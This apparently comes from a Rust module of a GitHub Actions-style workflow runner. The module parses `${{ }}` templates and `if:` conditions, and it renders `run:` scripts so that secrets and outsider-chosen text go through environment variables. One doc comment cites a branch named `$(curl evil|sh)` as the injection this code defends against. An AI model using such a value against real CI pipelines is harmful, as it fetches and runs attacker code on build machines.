//! Strings with `${{ expression }}` in them, and `if:` conditions.

use std::fmt;

use super::ast::{Expr, Reference};
use super::eval::{EvalError, Scope, evaluate};
use super::parser::{ParseError, parse};
use super::value::Value;

/// A string from the file, split into text and the expressions to put into it.
#[derive(Clone, Debug, PartialEq)]
pub struct Template {
    source: String,
    parts: Vec<Part>,
}

#[derive(Clone, Debug, PartialEq)]
pub enum Part {
    Text(String),
    Expr(Expr),
}

impl Template {
    /// Parses `source`; a parse error's offset counts characters from the start of `source`.
    pub fn parse(source: &str) -> Result<Self, ParseError> {
        let chars: Vec<char> = source.chars().collect();
        let mut parts = Vec::new();
        let mut text = String::new();
        let mut i = 0;
        while i < chars.len() {
            if chars[i..].starts_with(&['$', '{', '{']) {
                let start = i + 3;
                let end = closing(&chars, start)
                    .ok_or_else(|| ParseError::new(i, "`${{` has no closing `}}`"))?;
                let inner: String = chars[start..end].iter().collect();
                let expr = parse(&inner).map_err(|e| ParseError::new(start + e.at, e.message))?;
                if !text.is_empty() {
                    parts.push(Part::Text(std::mem::take(&mut text)));
                }
                parts.push(Part::Expr(expr));
                i = end + 2;
            } else {
                text.push(chars[i]);
                i += 1;
            }
        }
        if !text.is_empty() {
            parts.push(Part::Text(text));
        }
        Ok(Self {
            source: source.to_owned(),
            parts,
        })
    }

    /// A template without expressions.
    pub fn literal(text: impl Into<String>) -> Self {
        let text = text.into();
        let parts = if text.is_empty() {
            Vec::new()
        } else {
            vec![Part::Text(text.clone())]
        };
        Self {
            source: text,
            parts,
        }
    }

    /// The string as written.
    pub fn source(&self) -> &str {
        &self.source
    }

    /// Whether the template could render as `text`: its text in order, each expression
    /// standing for any text. What a name computed per matrix leg may turn out to be.
    pub fn could_be(&self, text: &str) -> bool {
        fn fits(parts: &[Part], text: &str) -> bool {
            match parts.split_first() {
                None => text.is_empty(),
                Some((Part::Text(t), rest)) => {
                    text.strip_prefix(t.as_str()).is_some_and(|r| fits(rest, r))
                }
                Some((Part::Expr(_), rest)) => (0..=text.len())
                    .filter(|&i| text.is_char_boundary(i))
                    .any(|i| fits(rest, &text[i..])),
            }
        }
        fits(&self.parts, text)
    }

    /// The text, when there is no expression in it.
    pub fn as_literal(&self) -> Option<&str> {
        self.parts
            .iter()
            .all(|p| matches!(p, Part::Text(_)))
            .then_some(self.source.as_str())
    }

    /// The expression, when the template is exactly one `${{ }}` and nothing else.
    pub fn as_single(&self) -> Option<&Expr> {
        match self.parts.as_slice() {
            [Part::Expr(e)] => Some(e),
            _ => None,
        }
    }

    pub fn exprs(&self) -> impl Iterator<Item = &Expr> {
        self.parts.iter().filter_map(|p| match p {
            Part::Expr(e) => Some(e),
            Part::Text(_) => None,
        })
    }

    /// The value: a lone `${{ x }}` keeps `x`'s type (so `${{ fromJSON(…) }}` can be a
    /// matrix); anything else is the text with each expression's value in its place.
    pub fn evaluate(&self, scope: &Scope<'_>) -> Result<Value, EvalError> {
        match self.as_single() {
            Some(e) => evaluate(e, scope),
            None => self.render(scope).map(Value::String),
        }
    }

    /// The text with each expression's value in its place.
    pub fn render(&self, scope: &Scope<'_>) -> Result<String, EvalError> {
        let mut out = String::new();
        for part in &self.parts {
            match part {
                Part::Text(t) => out.push_str(t),
                Part::Expr(e) => out.push_str(&evaluate(e, scope)?.to_text()),
            }
        }
        Ok(out)
    }
}

/// A script's text, and the variables that carry the secrets it names.
#[derive(Debug, PartialEq)]
pub struct Script {
    pub text: String,
    pub env: Vec<(String, String)>,
}

impl Template {
    /// The text of a `run:` script: each expression's value in its place, except that of an
    /// expression reading `secrets` or text an outsider chooses (a branch name, a commit
    /// message), which goes into an environment variable the text names as
    /// `${BELLWETHER_SECRET_<n>}` or `${BELLWETHER_TEXT_<n>}`: so a secret is never written
    /// into a script file, and a branch named `$(curl evil|sh)` is expanded as a value, never
    /// run as code. `expands` says whether the shell expands such names; if not, outsiders'
    /// text is pasted in (`validate` warns of it) and a secret is an error that says how to
    /// pass it instead.
    pub fn render_script(&self, scope: &Scope<'_>, expands: bool) -> Result<Script, EvalError> {
        let mut text = String::new();
        let mut env = Vec::new();
        for part in &self.parts {
            match part {
                Part::Text(t) => text.push_str(t),
                Part::Expr(e) if reads_secrets(e) && !expands => {
                    return Err(EvalError(
                        "a secret in the text of a script whose shell does not expand variables: pass it with the step's `env:` (`env: {TOKEN: ${{ secrets.TOKEN }}}`) and read it from the environment".to_owned(),
                    ));
                }
                Part::Expr(e) if expands && (reads_secrets(e) || reads_untrusted(e)) => {
                    let kind = if reads_secrets(e) { "SECRET" } else { "TEXT" };
                    let name = format!("BELLWETHER_{kind}_{}", env.len());
                    text.push_str(&format!("${{{name}}}"));
                    env.push((name, evaluate(e, scope)?.to_text()));
                }
                Part::Expr(e) => text.push_str(&evaluate(e, scope)?.to_text()),
            }
        }
        Ok(Script { text, env })
    }
}

fn reads_untrusted(expr: &Expr) -> bool {
    expr.references().iter().any(Reference::is_untrusted)
}

fn reads_secrets(expr: &Expr) -> bool {
    expr.references()
        .iter()
        .any(|r| r.context.eq_ignore_ascii_case("secrets"))
}

/// The offset of the `}}` that closes an expression starting at `from`, skipping strings.
fn closing(chars: &[char], from: usize) -> Option<usize> {
    let mut in_string = false;
    let mut i = from;
    while i < chars.len() {
        match chars[i] {
            '\'' => in_string = !in_string,
            '}' if !in_string && chars.get(i + 1) == Some(&'}') => return Some(i),
            _ => {}
        }
        i += 1;
    }
    None
}

impl fmt::Display for Template {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.source)
    }
}

/// An `if:` condition: an expression with or without `${{ }}` around it.
///
/// Without a status function, GitHub Actions runs a job or step only when everything before
/// it succeeded, as if the condition were `success() && (…)`; so does this.
#[derive(Clone, Debug, PartialEq)]
pub struct Condition {
    source: String,
    expr: Expr,
    has_status: bool,
}

impl Condition {
    pub fn parse(source: &str) -> Result<Self, ParseError> {
        let trimmed = source.trim();
        let expr = if trimmed.starts_with("${{") {
            let template = Template::parse(trimmed)?;
            match template.parts.as_slice() {
                [Part::Expr(e)] => e.clone(),
                _ => {
                    return Err(ParseError::new(
                        0,
                        "the condition mixes `${{ }}` with other text, which makes it a non-empty string that is always true (expected one expression, e.g. `github.ref == 'refs/heads/main' && success()`)",
                    ));
                }
            }
        } else {
            parse(trimmed).map_err(|e| {
                let lead = source.chars().count() - source.trim_start().chars().count();
                ParseError::new(lead + e.at, e.message)
            })?
        };
        let has_status = expr.calls().iter().any(|f| f.is_status());
        Ok(Self {
            source: source.to_owned(),
            expr,
            has_status,
        })
    }

    pub fn source(&self) -> &str {
        &self.source
    }

    pub fn expr(&self) -> &Expr {
        &self.expr
    }

    /// Whether the condition calls a status function itself; if not, `success()` is implied.
    pub fn has_status(&self) -> bool {
        self.has_status
    }

    /// Whether the job or step runs. `scope` must carry a status.
    pub fn passes(&self, scope: &Scope<'_>) -> Result<bool, EvalError> {
        let implied = scope.status.is_none_or(|s| s.success);
        if !self.has_status && !implied {
            return Ok(false);
        }
        evaluate(&self.expr, scope).map(|v| v.is_truthy())
    }
}
